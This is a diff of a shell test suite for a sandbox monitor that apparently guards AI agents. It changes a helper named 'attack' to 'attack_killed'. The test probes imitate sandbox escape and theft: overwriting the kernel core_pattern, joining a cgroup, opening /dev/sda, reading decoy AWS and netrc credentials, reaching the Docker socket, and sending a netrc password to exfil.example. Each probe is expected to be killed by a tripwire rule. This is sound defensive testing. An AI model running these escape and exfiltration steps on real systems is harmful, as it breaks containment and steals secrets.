@@ -13,11 +13,6 @@ HOST_CORE=$(cat /proc/sys/kernel/core_pattern)
 
 # events SANDBOX KIND: that kind's events as JSON lines.
 events() { "$FB" timeline "$1" --json | grep "\"kind\":\"$2\""; }
-verdict_rules() {
-	"$FB" timeline "$1" --json | python3 -c '
-import json, sys
-print(" ".join(sorted(e["fields"]["rule"] for e in map(json.loads, sys.stdin) if e["kind"] == "verdict")))'
-}
 
 cat >"$T/honest.py" <<'PY'
 import os
@@ -90,28 +85,7 @@ assert_eq "$(verdict_rules lprobe)" "escape.tripwire escape.tripwire escape.trip
 	"each refusal is an escape.tripwire verdict (alerted only, by this policy)"
 assert_eq "$(cat /proc/sys/kernel/core_pattern)" "$HOST_CORE" "the host's core_pattern is untouched"
 
-# attack NAME RULE SCRIPT: in a fresh sandbox, SCRIPT (python) runs in step 1; the sandbox must be
-# killed for RULE, and the lure event that triggered it carry step 1 and tool attack.
-attack() {
-	local name=$1 rule=$2
-	printf '%s\n' "$3" >"$T/$name.py"
-	create_sandbox "$name" "$POLICY"
-	copy_in "$name" "$T/$name.py"
-	"$FB" exec "$name" --tool attack --step 1 -- python3 "/workspace/$name.py" >"$T/$name.out" 2>&1
-	wait_event "$name" action.kill || fail "$name: not killed ($(cat "$T/$name.out")): $("$FB" timeline "$name" --json | tail -5)"
-	wait_cgroup "$name" populated 0 || fail "$name: processes left after the kill"
-	case " $(verdict_rules "$name") " in *" $rule "*) ;; *) fail "$name: no $rule verdict: $(verdict_rules "$name")" ;; esac
-	"$FB" timeline "$name" --json | python3 -c '
-import json, sys
-ev = [json.loads(l) for l in sys.stdin]
-v = [e for e in ev if e["kind"] == "verdict" and e["fields"]["rule"] == sys.argv[1]][0]
-trig = [e for e in ev if e["id"] in v["fields"]["event_ids"]]
-assert trig and all(e["step"] == 1 and e["tool"] == "attack" for e in trig), trig' "$rule" ||
-		fail "$name: the triggering event is not step 1's"
-	ok "$name: $rule, killed; the triggering event is step 1's"
-}
-
-attack lcore escape.tripwire 'import time
+attack_killed lcore escape.tripwire 'import time
 try:
     open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
 except OSError:
@@ -119,7 +93,7 @@ except OSError:
 time.sleep(10)'
 events lcore lure.tripwire | grep -q '"op":"write","refused":true' || fail "the refused write is not an event"
 
-attack lcg escape.tripwire 'import os, time
+attack_killed lcg escape.tripwire 'import os, time
 try:
     with open("/sys/fs/cgroup/cgroup.procs", "w") as f:
         f.write(str(os.getpid()))
@@ -127,24 +101,24 @@ except OSError:
     pass
 time.sleep(10)'
 
-attack ldev escape.tripwire 'import time
+attack_killed ldev escape.tripwire 'import time
 try:
     open("/dev/sda", "rb")
 except OSError:
     pass
 time.sleep(10)'
 
-attack ldecoy credential.decoy 'import os, time
+attack_killed ldecoy credential.decoy 'import os, time
 print(open(os.path.expanduser("~/.aws/credentials")).read().splitlines()[1])
 time.sleep(10)'
 
-attack lsock escape.runtime-socket 'import socket, time
+attack_killed lsock escape.runtime-socket 'import socket, time
 s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
 print(s.connect_ex("/var/run/docker.sock"))
 time.sleep(10)'
 
 # The marker leaving: ~/.netrc read (recorded only), its password handed to a program.
-attack lmark exfil.decoy-marker 'import os, subprocess, time
+attack_killed lmark exfil.decoy-marker 'import os, subprocess, time
 pw = open(os.path.expanduser("~/.netrc")).read().split()[-1]
 subprocess.run(["/usr/bin/python3", "-c", "import sys", "https://exfil.example/?p=" + pw])
 time.sleep(10)'
